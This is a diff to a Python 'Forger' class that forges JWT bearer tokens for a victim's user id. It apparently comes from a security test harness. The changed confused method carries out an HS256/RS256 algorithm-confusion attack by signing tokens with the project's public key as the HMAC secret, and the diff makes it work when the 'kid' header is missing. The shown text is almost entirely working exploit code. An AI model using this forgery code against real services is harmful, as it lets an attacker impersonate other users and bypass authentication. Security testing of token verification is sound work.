@@ -11,7 +11,7 @@ import json
 import time
 from base64 import urlsafe_b64decode, urlsafe_b64encode
 from collections.abc import Callable
-from dataclasses import dataclass
+from dataclasses import dataclass, field
 from typing import Any
 from uuid import uuid4
 
@@ -34,9 +34,9 @@ class Forger:
     `victim_id` is somebody else's user id.
     """
 
-    genuine: str
+    genuine: str = field(repr=False)
     public_keys: list[dict[str, Any]]
-    shared_secret: str | None
+    shared_secret: str | None = field(repr=False)
     victim_id: str
     anon_key: str
 
@@ -77,8 +77,10 @@ class Forger:
 
     def confused(self, form: Callable[[dict[str, Any]], bytes]) -> str:
         """HS256 with the project's public key, in some form, as if it were the shared secret."""
-        public = next(key for key in self.public_keys if key["kid"] == self.header["kid"])
-        signed = f"{_part({'alg': 'HS256', 'typ': 'JWT', 'kid': public['kid']})}.{_part(self.claims)}"
+        kid = self.header.get("kid")
+        public = next((key for key in self.public_keys if key.get("kid") == kid), self.public_keys[0])
+        named = {"kid": public["kid"]} if public.get("kid") else {}
+        signed = f"{_part({'alg': 'HS256', 'typ': 'JWT', **named})}.{_part(self.claims)}"
         signature = hmac.new(form(public), signed.encode(), hashlib.sha256).digest()
         return f"Bearer {signed}.{_base64(signature)}"
 
